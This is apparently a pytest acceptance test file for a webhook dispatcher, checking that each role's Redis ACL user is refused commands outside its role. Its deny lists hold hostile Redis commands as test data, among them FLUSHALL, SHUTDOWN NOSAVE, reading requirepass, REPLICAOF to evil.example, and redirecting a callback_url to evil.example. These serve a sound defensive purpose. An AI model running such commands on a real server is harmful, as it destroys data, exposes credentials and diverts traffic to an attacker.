"""Each role runs as the Redis user that docs/operations.md makes for it, and what it should not do is refused."""

import json
import shlex
import time
from urllib.parse import urlencode

import pytest
import redis
from aiohttp import web

from dispatcher import Dispatcher
from tests.acceptance.redis_users import LINES, denied, make_users, url_as
from tests.acceptance.stack import CLI, Stack, Worker, change, free_port, wait_until
from tests.acceptance.test_metrics import scrape
from tests.console.world import ask, console, get, key_for, session

SECRETS = (
    "HGETALL dispatcher:workspace:acme",
    "HSET dispatcher:workspace:acme callback_url http://evil.example/",
    "DEL dispatcher:workspace:acme",
    "CONFIG GET requirepass",
    "ACL LIST",
    "FLUSHALL",
    "KEYS *",
    "MONITOR",
    "SCRIPT FLUSH",
    "SHUTDOWN NOSAVE",
    "CLIENT KILL TYPE normal",
    "REPLICAOF evil.example 6379",
    "SET other-application 1",
)
REFUSED = {
    "producer": (
        *SECRETS,
        "XRANGE dispatcher:events - +",
        "XTRIM dispatcher:events MAXLEN 0",
        "XDEL dispatcher:events 1-1",
        "XADD dispatcher:rejected * a b",
        "LPUSH dispatcher:celery:dispatcher x",
        "EVAL 'return 1' 0",
        "SMEMBERS dispatcher:workspaces",
        "SUBSCRIBE dispatcher:tail",
    ),
    "worker": (*SECRETS[3:], "SUBSCRIBE /0.celery.pidbox"),
    "broker": (
        *SECRETS,
        "XADD dispatcher:events * event x",
        "GET dispatcher:body:acme:e1",
        "SUBSCRIBE dispatcher:tail",
    ),
    "api": (
        *SECRETS[3:],
        "GET dispatcher:body:acme:e1",
        "LPUSH dispatcher:celery:dispatcher x",
        "SUBSCRIBE dispatcher:tail",
    ),
    "exporter": (
        *SECRETS,
        "GET dispatcher:status:acme:m1",
        "HGETALL dispatcher:api-key:a",
        "XADD dispatcher:events * event x",
    ),
    "console": (
        *SECRETS[3:],
        "LPUSH dispatcher:celery:dispatcher x",
        "SUBSCRIBE other-application",
        "PUBLISH dispatcher:tail x",
    ),
}
LOOKS = {
    ("dispatcher-worker", "config"),
    ("dispatcher-worker", "acl"),
    ("dispatcher-worker", "config|get"),
    ("dispatcher-worker", "acl|getuser"),
}
"""By which a worker warns at its start."""


@pytest.fixture
def users(stack: Stack) -> Stack:
    """The stack, with a user for each role, and a workspace."""
    make_users(stack.redis)
    stack.add_workspace()
    return stack


def start_worker(stack: Stack) -> Worker:
    """A worker with the users of its two connections."""
    return stack.start_worker(
        DISPATCHER_REDIS_URL=url_as(stack, "worker"), DISPATCHER_BROKER_URL=url_as(stack, "broker")
    ).wait_ready()


def test_every_role_has_a_line() -> None:
    """The document has a line for each role that is tested here."""
    assert [f"dispatcher-{role}" for role in REFUSED] == [line.split()[2] for line in LINES]


def test_callbacks_go_their_whole_way(users: Stack) -> None:
    """A producer enqueues, workers deliver, retry, end and tell, the exporter counts: no user is refused anything."""
    answers = iter([503, 410])

    async def answer(_request: web.Request, number: int) -> web.Response:
        return web.Response(status=next(answers, 200) if number <= 1 else 200)

    users.answer = answer
    workers = [start_worker(users), start_worker(users)]
    with Dispatcher.from_url(url_as(users, "producer")) as dispatcher:
        event_ids = dispatcher.enqueue_many(change(number) for number in range(40))
        dispatcher.enqueue(change(100, workspace="nobody"))
    ends = users.wait_ended(event_ids)
    assert {"delivered", "failed"} == set(ends)
    wait_until(lambda: users.cli_json("rejected", "list"), what="the rejected entry")
    assert {"ok"} == {one["verdict"] for one in users.cli_json("check", "--live")}
    port = free_port()
    users.start_worker(*CLI, "exporter", "--port", str(port), DISPATCHER_REDIS_URL=url_as(users, "exporter"))
    wait_until(lambda: is_up(port), what="the exporter")
    assert (1, 2) == (scrape(port)["dispatcher_redis_up"], scrape(port)["dispatcher_workers"])
    time.sleep(11)  # kombu looks every 10 s for what was not acknowledged
    assert [0, 0] == [worker.terminate() for worker in workers]
    assert set() == denied(users.redis) - LOOKS


def test_a_broker_without_a_right(users: Stack) -> None:
    """`check` names what the broker's user may not do there, and leaves nothing; a worker says so once, and callbacks go on."""
    users.redis.execute_command("ACL", "SETUSER", "dispatcher-broker", "-brpop", "-sadd")
    users.redis.execute_command("ACL", "LOG", "RESET")
    before = set(users.redis.keys())
    users.environment["DISPATCHER_BROKER_URL"] = url_as(users, "broker")
    (found,) = (one for one in json.loads(users.cli("check", "--json").stdout) if one["subject"] == "celery")
    assert ("bad", True) == (found["verdict"], "may not BRPOP, SADD: hints" in found["detail"])
    assert before == set(users.redis.keys())
    users.redis.execute_command("ACL", "SETUSER", "dispatcher-broker", "+sadd")
    worker = users.start_worker(DISPATCHER_REDIS_URL=url_as(users, "worker"))
    lost = "Connection to broker lost"
    wait_until(
        lambda: sum(int(one["count"]) for one in users.redis.acl_log(128)) >= 20, what="it was refused often"
    )
    assert {"delivered": 3} == users.wait_ended(users.enqueue(3))
    assert 0 == worker.terminate()
    assert (1, 1, 0) == tuple(worker.log.count(one) for one in (lost, "Connected to", "CPendingDeprecation"))


def test_a_worker_may_disable_a_subscription(users: Stack) -> None:
    """Its user may make that change of a workspace, and write it into the trail."""

    async def answer(_request: web.Request, _number: int) -> web.Response:
        return web.Response(status=500, headers={"webhook-delivery": "disable"})

    users.answer = answer
    worker = start_worker(users)
    assert users.wait_ended(users.enqueue(1)) == {"failed": 1}
    wait_until(lambda: worker.lines("subscription.disabled"), what="the subscription is disabled")
    wait_until(lambda: worker.lines("audit"), what="the trail")
    assert users.cli_json("subscription", "show", "acme", "default")["state"] == "disabled"
    assert set() == denied(users.redis) - LOOKS


def test_the_console_may_do_what_its_pages_do(users: Stack) -> None:
    """Its user may look at every page, watch attempts, and do what an admin can do; it is refused nothing."""

    async def answer(_request: web.Request, _number: int) -> web.Response:
        return web.Response(status=410)

    users.answer = answer
    start_worker(users)
    failed = users.enqueue(3)
    assert users.wait_ended(failed) == {"failed": 3}
    users.redis.xadd("dispatcher:events", {"event": b"no JSON"})
    wait_until(lambda: users.cli_json("rejected", "list"), what="the rejected entry")
    endpoint = users.cli_json("endpoint", "list")[0]["endpoint"]
    of, one = {"workspace": "acme", "subscription": "default"}, {"workspace": "acme", "id": failed[0]}
    key = key_for(users, "admin")
    with console(users, DISPATCHER_REDIS_URL=url_as(users, "console")) as found:
        cookie = session(found.url, key)
        looked = {
            path: get(found.url + path, Cookie=cookie)[0]
            for path in (
                *(
                    "/",
                    "/endpoints",
                    "/callbacks?state=failed",
                    "/callbacks?state=waiting",
                    "/live",
                    "/rejected",
                ),
                *(
                    "/workspaces",
                    "/workspace?id=acme",
                    "/signature",
                    "/work",
                    "/log",
                    "/account",
                    "/search?q=m0",
                ),
                *(
                    f"/callback?{urlencode(one)}",
                    f"/endpoint?{urlencode({'owner': 'acme', 'url': endpoint})}",
                ),
            )
        }
        assert {200, 303} == set(looked.values()), looked  # the search goes to what it finds
        done = {
            path: ask("POST", found.url + path, form, Cookie=cookie)[0]
            for path, form in (
                ("/callback/replay", one),
                ("/callback/cancel", one),
                ("/callbacks/replay", {"state": "failed", "workspace": "acme"}),
                ("/endpoint/stop", {"owner": "acme", "url": endpoint}),
                ("/endpoint/resume", {"owner": "acme", "url": endpoint}),
                ("/endpoint/retry", {"owner": "acme", "url": endpoint}),
                ("/endpoint/ping", {"owner": "acme", "url": endpoint}),
                ("/subscription/pause", of),
                ("/subscription/resume", of),
                ("/subscription/rotate", of),
                ("/subscription/ping", of),
                ("/logout", {"everywhere": "1"}),
            )
        }
    assert {200, 303} == set(done.values()), done
    assert set() == denied(users.redis) - LOOKS


def is_up(port: int) -> bool:
    """Whether figures are shown there."""
    try:
        return bool(scrape(port))
    except OSError:
        return False


@pytest.mark.parametrize("role", REFUSED)
def test_refused(users: Stack, role: str) -> None:
    """A role cannot do what is not its own."""
    done = []
    with redis.Redis.from_url(url_as(users, role)) as client:
        for command in REFUSED[role]:
            try:
                done.append((command, client.execute_command(*shlex.split(command))))
            except redis.exceptions.NoPermissionError:
                continue
    assert [] == done


def test_producer_cannot_use_scripts_to_reach_further(users: Stack) -> None:
    """What a producer's own status change holds is all that reaches Redis from it: it goes to `rejected` as text."""
    worker = start_worker(users)
    with redis.Redis.from_url(url_as(users, "producer")) as client:
        client.xadd("dispatcher:events", {"event": json.dumps({"workspace": "acme", "redis": "FLUSHALL"})})
    wait_until(lambda: users.cli_json("rejected", "list"), what="the entry to be rejected")
    assert None is worker.process.poll()
